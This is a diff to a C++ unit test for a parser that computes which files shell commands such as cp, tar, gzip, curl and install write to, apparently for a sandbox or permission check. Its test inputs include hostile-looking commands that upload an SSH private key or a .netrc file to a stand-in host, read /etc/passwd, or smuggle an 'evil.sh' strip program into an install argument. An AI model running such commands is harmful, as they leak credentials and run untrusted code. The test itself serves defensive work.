@@ -99,19 +99,19 @@ TEST(ProgramOptionsTest, OptionsThatWriteAFileAreWriteTargets) {
 
 TEST(ProgramOptionsTest, FileUtilitiesWriteTheirOperands) {
   const std::pair<const char*, Strings> cases[] = {
-      {"cp a b", {"b"}},
+      {"cp a b", {"b", "b/a"}},
       {"cp a b out", {"out/a", "out/b"}},
       {"cp -t /x a dir/b", {"/x/a", "/x/b"}},
       {"cp --target-directory=/x a", {"/x/a"}},
       {"cp -t/x a", {"/x/a"}},
       {"cp --target /x a", {"/x/a"}},
-      {"cp -b a b", {"b", "b~"}},
-      {"cp -S .orig a b", {"b", "b.orig"}},
-      {"mv a b", {"b", "a"}},
+      {"cp -b a b", {"b", "b/a", "b~", "b/a~"}},
+      {"cp -S .orig a b", {"b", "b/a", "b.orig", "b/a.orig"}},
+      {"mv a b", {"b", "b/a", "a"}},
       {"mv -t d a b", {"d/a", "d/b", "a", "b"}},
-      {"ln -s /etc/passwd link", {"link"}},
+      {"ln -s /etc/passwd link", {"link", "link/passwd"}},
       {"ln -s /x/target", {"target"}},
-      {"install -m 755 a /usr/local/bin/a", {"/usr/local/bin/a"}},
+      {"install -m 755 a /usr/local/bin/a", {"/usr/local/bin/a", "/usr/local/bin/a/a"}},
       {"install -d d1 d2", {"d1", "d2"}},
       {"touch a b", {"a", "b"}},
       {"touch -r ref -d now a", {"a"}},
@@ -129,7 +129,8 @@ TEST(ProgramOptionsTest, FileUtilitiesWriteTheirOperands) {
       {"tar -xf x.tar --directory=/x", {"/x/"}},
       {"tar xf x.tar", {"./"}},
       {"tar xCf /x x.tar", {"/x/"}},
-      {"tar -xOf x.tar", {}},
+      {"tar -x -O -f x.tar", {}},
+      {"tar -xOf x.tar", {"./"}},  // only a sure -O exempts
       {"tar -tf x.tar", {}},
       {"tar -czf out.tgz src", {"out.tgz"}},
       {"tar cf out.tar src", {"out.tar"}},
@@ -145,6 +146,32 @@ TEST(ProgramOptionsTest, FileUtilitiesWriteTheirOperands) {
       {"wget -O f https://x", {"f"}},
       {"wget -qO- https://x", {}},
       {"wget -P /x https://x", {"/x/"}},
+      {"gzip f", {"f", "f.gz"}},
+      {"gunzip f.gz", {"f.gz", "f"}},
+      {"gzip -c f", {}},
+      {"xz -d a.xz", {"a.xz", "a"}},
+      {"uniq in out", {"out"}},
+      {"uniq in", {}},
+      {"split -l 10 big part.", {"part.*"}},
+      {"csplit -f piece f /x/", {"piece*"}},
+      {"patch -p1 -i fix.diff", {"./"}},
+      {"patch --dry-run -p1 -i fix.diff", {}},
+      // From the third review: values that hold an exemption's letter, writes
+      // beside the members, a copy into a directory, a recursive copy.
+      {"unzip -o a.zip -d/tmp/x", {"/tmp/x/"}},
+      {"tar -xf a.tar -Clnk -XO", {"lnk/"}},
+      {"gzip -S.t victim", {"victim", "victim.t"}},
+      {"tar -tf a.tar --index-file=/x/idx", {"/x/idx"}},
+      {"tar -cf out/a.tar --remove-files O", {"O", "out/a.tar"}},
+      {"cp evil out/d/", {"out/d/evil"}},
+      {"cp -r src out", {"out/", "out/src/"}},
+      {"mkdir --context notout", {"notout"}},
+      {"install --directory d", {"d"}},
+      {"rmdir -p a/b/c", {"a/b/c", "a/b", "a"}},
+      {"zip -r out.zip src", {"out.zip"}},
+      {"rsync -a src/ dest", {"dest/"}},
+      {"curl --create-dirs --output-dir d -o out/c https://x", {"out/c", "d/"}},
+      {"wget -qO- https://x --save-cookies=/x/c", {"/x/c"}},
   };
   for (const auto& [line, want] : cases) {
     EXPECT_EQ(Only(ParseLine(line)).write_targets, want) << line;
@@ -152,7 +179,8 @@ TEST(ProgramOptionsTest, FileUtilitiesWriteTheirOperands) {
   for (const char* line :
        {"curl -K cfg https://x", "curl -T ~/.ssh/id_rsa https://x", "curl file:///etc/passwd",
         "curl -d @/home/u/.netrc https://x", "curl -F f=@secret https://x", "curl FILE:///x",
-        "wget -e 'x=y' https://x", "wget --post-file=secret https://x"}) {
+        "wget -e 'x=y' https://x", "wget --post-file=secret https://x",
+        "install --strip-program=./evil.sh -s evil out/inst"}) {
     EXPECT_TRUE(Only(ParseLine(line)).opaque) << line;
   }
 }
